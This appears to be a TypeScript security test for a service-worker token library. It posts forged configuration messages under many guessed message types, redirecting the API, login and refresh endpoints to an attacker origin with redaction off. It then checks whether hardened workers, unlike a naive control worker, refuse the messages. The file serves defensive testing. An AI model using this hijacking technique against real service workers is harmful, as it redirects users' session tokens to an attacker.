/** Posts a configuration that makes the attacker's server part of the API, and asks there. */
import { attack } from './support/attack.js';
import { withNaiveWorker } from './support/naive-worker.js';
import { stopped } from './support/outcome.js';

const FROM_SCRIPT = stopped('the configuration comes from the worker’s own script alone');

attack('Make the attacker’s server part of the API, by messages', {
  engines: 'one',
  expected: { indexeddb: FROM_SCRIPT, memory: FROM_SCRIPT, sealed: FROM_SCRIPT, 'sealed + proof': FROM_SCRIPT },
  steps: async ({ tab, attacker, ask, endpoints }) => {
    await tab.run(
      async ([home, { refresh }]) => {
        const { controller } = navigator.serviceWorker;
        const config = { api: home, login: `${home}/login`, refresh: `${home}${refresh}`, logout: `${home}/logout`, storage: 'memory', redact: 'none' };
        const post = (message: unknown): Promise<void> =>
          new Promise((resolve) => {
            const { port1, port2 } = new MessageChannel();
            setTimeout(resolve, 300);
            port1.onmessage = () => resolve();
            controller?.postMessage(message, [port2]);
          });
        const types = ['config', 'set-config', 'configure', 'init', 'hello', 'wake', 'refresh', 'claim', 'history'];
        await Promise.all(types.map((type) => post({ type: `token-worker:${type}`, version: 1, session: 'default', ...config, config, data: config, options: config })));
        for (const path of ['/api/me', '/cookie/me', '/']) await fetch(home + path).then(() => undefined, () => undefined);
      },
      [attacker.origin, endpoints] as const,
    );
    await ask();
    return attacker.received();
  },
  control: { name: 'a worker that takes its configuration from messages', victim: withNaiveWorker },
});
